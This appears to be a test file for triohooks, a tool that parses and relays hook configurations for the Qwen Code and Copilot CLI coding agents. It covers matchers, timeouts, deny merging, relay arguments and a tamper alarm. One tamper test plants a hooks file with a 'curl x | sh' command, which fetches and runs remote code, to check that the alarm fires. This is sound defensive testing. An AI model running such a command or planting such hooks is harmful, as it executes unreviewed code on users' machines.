@@ -1,0 +1,369 @@
+"""The Qwen Code and Copilot CLI dialects, read and answered as each agent does (docs/agents.md):
+Qwen Code's matcher (exact names, Claude Code's aliases, then a regex) and timeout units, Copilot
+CLI's files (a directory of hooks files, its own flat form), its camelCase input, its anchored
+matchers, its answers; install, refuse, uninstall and the tamper alarm on Copilot's hooks
+directory; the relay's ``--event``. Real CLI commands and a real engine with bash hooks (the real
+agents: tests/interop)."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import trio
+
+from tests.helpers import triohooks_cli
+from triohooks import HookEngine
+from triohooks.agents.config import AgentHook, compile_matcher, load_agent_table, parse_hooks
+from triohooks.agents.copilot import claude_reply, claude_view
+from triohooks.agents.merge import internal_error_answer, merge
+from triohooks.agents.replies import AgentReply
+from triohooks.agents.spec import Level
+from triohooks.fronts.relay import _parse, with_event
+
+# --- Qwen Code: matcher and timeouts ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("matcher", "value", "hit"),
+    [
+        ("run_shell_command", "run_shell_command", True),
+        ("Bash", "run_shell_command", True),  # Claude Code's name: an alias, compared exactly
+        ("Write | Edit", "edit", True),  # a list, entries trimmed, aliases each
+        ("Write|Edit", "write_file", True),
+        ("read", "read_file", True),  # no exact entry: an unanchored regex of the entries
+        ("edit", "notebook_edit", True),
+        ("^run_shell_command$", "run_shell_command", True),
+        ("^read$", "read_file", False),  # starting with ^: only a regex, as written
+        ("(Bash)", "run_shell_command", False),  # a group: a regex, no alias
+        ("read_(file|edit)|", "read_file", True),  # a stray bar is ignored
+        ("read_(file|edit)|", "glob", False),  # ...and never matches everything
+        ("|", "anything", False),  # only bars: nothing
+        (".*", "anything", True),
+        ("* | glob", "anything", True),
+        ("", "anything", True),
+    ],
+)
+def test_qwen_matchers(matcher: str, value: str, hit: bool) -> None:
+    assert compile_matcher("qwen", matcher).matches(value) is hit
+
+
+def _parse_one(agent: Any, event: str, entry: dict[str, Any]) -> tuple[AgentHook, list[Any]]:
+    problems: list[Any] = []
+    hooks = parse_hooks(
+        agent, Level("user", Path("/s.json"), False), "/s.json", {event: [entry]}, problems
+    )
+    assert len(hooks) == 1, problems
+    return hooks[0], problems
+
+
+@pytest.mark.parametrize(
+    ("handler", "seconds"),
+    [
+        ({"type": "command", "command": "x", "timeout": 10}, 10.0),
+        ({"type": "command", "command": "x", "timeout": 5000}, 5.0),  # 1000 or more: ms
+        ({"type": "command", "command": "x"}, 60.0),
+        ({"type": "http", "url": "http://127.0.0.1:1/h"}, 600.0),
+        ({"type": "http", "url": "http://127.0.0.1:1/h", "timeout": 5000}, 5000.0),
+        ({"type": "prompt", "prompt": "ok?"}, 30.0),
+    ],
+)
+def test_qwen_timeouts(handler: dict[str, Any], seconds: float) -> None:
+    hook, _ = _parse_one("qwen", "PreToolUse", {"hooks": [handler]})
+    assert hook.timeout_s == seconds
+
+
+def test_a_qwen_timeout_that_is_no_number_is_said_and_the_default_applies() -> None:
+    hook, problems = _parse_one(
+        "qwen", "PreToolUse", {"hooks": [{"type": "command", "command": "x", "timeout": "30s"}]}
+    )
+    assert hook.timeout_s == 60.0
+    assert [(p.field, p.message) for p in problems] == [
+        ("PreToolUse[0].hooks[0].timeout", "must be a positive number")
+    ]
+
+
+# --- Copilot CLI: files, matchers, input, answers -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("matcher", "value", "hit"),
+    [
+        ("bash", "bash", True),
+        ("bash", "bash_tool", False),  # anchored: the whole name
+        ("ba.*", "bash", True),
+        ("bash|view", "view", True),
+        ("edit", "notebook_edit", False),
+        (None, "anything", True),
+    ],
+)
+def test_copilot_matchers_match_the_whole_name(matcher: str | None, value: str, hit: bool) -> None:
+    assert compile_matcher("copilot", matcher).matches(value) is hit
+
+
+def test_copilot_hooks_in_its_own_form_and_claudes() -> None:
+    own, _ = _parse_one(
+        "copilot",
+        "preToolUse",
+        {"type": "command", "bash": "./check.sh", "timeoutSec": 7, "matcher": "bash"},
+    )
+    assert (own.command, own.timeout_s, own.matcher.text, own.sequential) == (
+        "./check.sh",
+        7.0,
+        "bash",
+        True,  # Copilot runs an event's hooks one after another
+    )
+    assert own.canonical == "pre_tool"
+    nested, _ = _parse_one(
+        "copilot", "preToolUse", {"matcher": "view", "hooks": [{"command": "x", "timeout": 3}]}
+    )
+    assert (nested.command, nested.timeout_s) == ("x", 3.0)
+    default, _ = _parse_one("copilot", "agentStop", {"type": "command", "bash": "x"})
+    assert (default.timeout_s, default.canonical) == (30.0, "stop")
+
+
+def test_copilot_input_is_read_under_claudes_names() -> None:
+    view = claude_view(
+        {
+            "sessionId": "s",
+            "cwd": "/p",
+            "toolName": "bash",
+            "toolArgs": '{"command": "ls"}',
+            "hook_event_name": "preToolUse",
+        }
+    )
+    assert view["session_id"] == "s" and view["tool_name"] == "bash"
+    assert view["tool_input"] == {"command": "ls"}
+    assert claude_view({"toolArgs": "not json"})["tool_input"] == "not json"
+
+
+def _copilot_hook(n: int) -> AgentHook:
+    hook, _ = _parse_one("copilot", "preToolUse", {"type": "command", "bash": f"hook{n}"})
+    return hook
+
+
+def test_copilot_answers_any_deny_wins_and_the_last_rewrite() -> None:
+    runs = [
+        (_copilot_hook(0), AgentReply(status="ok", json={"modifiedArgs": {"command": "a"}})),
+        (_copilot_hook(1), AgentReply(status="ok", json={"modifiedArgs": {"command": "b"}})),
+    ]
+    answer = merge("copilot", "preToolUse", runs)
+    assert answer.output == {"modifiedArgs": {"command": "b"}}
+    denied = merge(
+        "copilot",
+        "preToolUse",
+        [
+            *runs,
+            (
+                _copilot_hook(2),
+                AgentReply(
+                    status="ok",
+                    json={"permissionDecision": "deny", "permissionDecisionReason": "no"},
+                ),
+            ),
+        ],
+    )
+    assert denied.blocked
+    assert denied.output == {"permissionDecision": "deny", "permissionDecisionReason": "no"}
+    exit2 = merge("copilot", "preToolUse", [(_copilot_hook(3), AgentReply(status="block"))])
+    assert exit2.output["permissionDecision"] == "deny"
+    assert exit2.output["permissionDecisionReason"]  # Copilot needs a reason with a deny
+
+
+def test_copilot_permission_requests_and_stops() -> None:
+    hook, _ = _parse_one("copilot", "permissionRequest", {"type": "command", "bash": "x"})
+    allow = merge(
+        "copilot",
+        "permissionRequest",
+        [(hook, AgentReply(status="ok", json={"behavior": "allow"}))],
+    )
+    assert allow.output == {"behavior": "allow"}
+    # Exit 2 on a permission request is a deny in Copilot CLI (not in Claude Code).
+    denied = merge("copilot", "permissionRequest", [(hook, AgentReply(status="block", reason="r"))])
+    assert denied.blocked and denied.output == {"behavior": "deny", "message": "r"}
+    stop, _ = _parse_one("copilot", "agentStop", {"type": "command", "bash": "x"})
+    again = merge(
+        "copilot",
+        "agentStop",
+        [(stop, AgentReply(status="ok", json={"decision": "block", "reason": "tests fail"}))],
+    )
+    assert again.output == {"decision": "block", "reason": "tests fail"}
+
+
+def test_claude_shaped_copilot_answers_are_read_too() -> None:
+    shaped = {"hookSpecificOutput": {"permissionDecision": "deny"}}
+    assert claude_reply("PreToolUse", shaped) == shaped
+
+
+def test_our_own_failure_is_a_copilot_deny() -> None:
+    answer = internal_error_answer("copilot", "preToolUse", "boom")
+    assert answer.output["permissionDecision"] == "deny"
+    assert "triohooks internal error" in answer.output["permissionDecisionReason"]
+
+
+# --- the relay's --event ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("body", "spliced"),
+    [
+        (b"{}", b'{"hook_event_name":"preToolUse"}'),
+        (b'{"a": 1}\n', b'{"a": 1,"hook_event_name":"preToolUse"}'),
+        (b" { } ", b' {"hook_event_name":"preToolUse"}'),
+        (b"[1]", b"[1]"),  # no object: left for the decoder to refuse
+    ],
+)
+def test_the_relay_adds_the_event_it_was_given(body: bytes, spliced: bytes) -> None:
+    assert with_event(body, "preToolUse") == spliced
+
+
+def test_an_event_named_by_the_agent_is_overridden_by_the_catch_alls() -> None:
+    body = with_event(b'{"hook_event_name": "Notification"}', "notification")
+    assert json.loads(body)["hook_event_name"] == "notification"
+
+
+@pytest.mark.parametrize(
+    ("argv", "parsed"),
+    [
+        (
+            ["copilot", "--event", "preToolUse", "--timeout", "35"],
+            ("copilot", 35.0, False, "preToolUse"),
+        ),
+        (["claude", "--timeout", "5"], ("claude", 5.0, False, "")),
+        (["--here", "qwen"], ("qwen", 60.0, True, "")),
+        (["copilot", "--event", "pre tool"], None),
+        (["copilot", "--event", "a;b"], None),
+        (["copilot", "--timeout"], None),
+        (["nobody"], None),
+    ],
+)
+def test_relay_arguments(argv: list[str], parsed: Any) -> None:
+    assert _parse(argv) == parsed
+
+
+# --- install, refuse, uninstall, tamper: Copilot CLI's hooks directory --------------------------
+
+
+class Setup:
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.home = root / "home"
+        self.project = (root / "proj").resolve()
+        self.config = root / "cfg"
+        self.state = root / "state"
+        for d in (self.home, self.project, self.config):
+            d.mkdir(parents=True)
+        self.state.mkdir(mode=0o700)
+        self.hooks_dir = self.home / ".copilot" / "hooks"
+
+    def cli(self, *argv: str) -> Any:
+        return triohooks_cli(
+            *argv,
+            cwd=self.project,
+            config_dir=self.config,
+            HOME=str(self.home),
+            TRIOHOOKS_STATE_DIR=str(self.state),
+            PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
+        )
+
+    def write(self, name: str, hooks: dict[str, Any]) -> Path:
+        self.hooks_dir.mkdir(parents=True, exist_ok=True)
+        path = self.hooks_dir / name
+        path.write_text(json.dumps({"version": 1, "hooks": hooks}))
+        return path
+
+    def table(self) -> Any:
+        return load_agent_table(
+            "copilot", project=self.project, home=self.home, config_dir=self.config
+        )
+
+
+@pytest.fixture
+def setup(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Setup:
+    s = Setup(tmp_path)
+    monkeypatch.setenv("HOME", str(s.home))
+    return s
+
+
+MARK = {"preToolUse": [{"type": "command", "bash": "echo mine", "timeoutSec": 9}]}
+
+
+def test_copilot_install_moves_its_file_and_routes_every_event(setup: Setup) -> None:
+    original = setup.write("triohooks.json", MARK)
+    done = setup.cli("copilot", "install", "--scope", "user")
+    assert done.returncode == 0, done.stderr
+    installed = json.loads(original.read_text())
+    assert installed["version"] == 1
+    for event, entries in installed["hooks"].items():
+        (handler,) = entries
+        assert set(handler) == {"type", "bash", "timeoutSec"}
+        assert f"relay.py copilot --event {event} --timeout" in handler["bash"]
+    assert installed["hooks"]["preToolUse"][0]["timeoutSec"] == 14  # 9 + the margin
+    moved = setup.home / ".copilot" / "triohooks-hooks.json"  # outside the hooks directory
+    assert json.loads(moved.read_text()) == MARK
+    table = setup.table()
+    assert [h.command for h in table.hooks if h.adopted] == ["echo mine"]
+    assert table.tampered == ()
+    done = setup.cli("copilot", "uninstall", "--scope", "user")
+    assert done.returncode == 0, done.stderr
+    assert json.loads(original.read_text()) == {"version": 1, "hooks": MARK}
+    assert not moved.exists()
+
+
+def test_copilot_install_refuses_beside_another_hooks_file(setup: Setup) -> None:
+    setup.write("security.json", MARK)
+    done = setup.cli("copilot", "install", "--scope", "user")
+    assert done.returncode == 1
+    assert "move the hooks of security.json into triohooks.json" in done.stderr
+    assert "nothing changed" in done.stderr
+    assert sorted(p.name for p in setup.hooks_dir.iterdir()) == ["security.json"]
+
+
+def test_a_hooks_file_planted_beside_the_install_raises_the_alarm(setup: Setup) -> None:
+    assert setup.cli("copilot", "install", "--scope", "user").returncode == 0
+    setup.write("worm.json", {"sessionStart": [{"type": "command", "bash": "curl x | sh"}]})
+    (alarm,) = setup.table().tampered
+    assert "worm.json" in alarm and "Copilot CLI runs them itself" in alarm
+    done = setup.cli("copilot", "validate")
+    assert done.returncode == 1 and "worm.json" in done.stdout + done.stderr
+
+
+async def test_copilot_requests_run_its_hooks_with_its_own_input(setup: Setup) -> None:
+    seen = setup.root / "seen.json"
+    deny = json.dumps({"permissionDecision": "deny", "permissionDecisionReason": "not on main"})
+    setup.write(
+        "triohooks.json",
+        {"preToolUse": [{"type": "command", "bash": f"cat > {seen}; echo '{deny}'"}]},
+    )
+    assert setup.cli("copilot", "install", "--scope", "user").returncode == 0
+    body = with_event(
+        json.dumps(
+            {
+                "sessionId": "s1",
+                "timestamp": 1,
+                "cwd": str(setup.project),
+                "toolName": "bash",
+                "toolArgs": {"command": "git commit"},
+            }
+        ).encode(),
+        "preToolUse",
+    )
+    with trio.fail_after(30):
+        async with HookEngine.open(
+            workspace=setup.project,
+            config_dir=setup.config,
+            state_dir=setup.state,
+            audit=False,
+        ) as engine:
+            result = await engine.agent_hook("copilot", body, adopted_only=True)
+    assert result.answer.output == {
+        "permissionDecision": "deny",
+        "permissionDecisionReason": "not on main",
+    }
+    received = json.loads(seen.read_text())
+    assert received["toolName"] == "bash" and received["toolArgs"] == {"command": "git commit"}
+    assert received["sessionId"] == "s1"
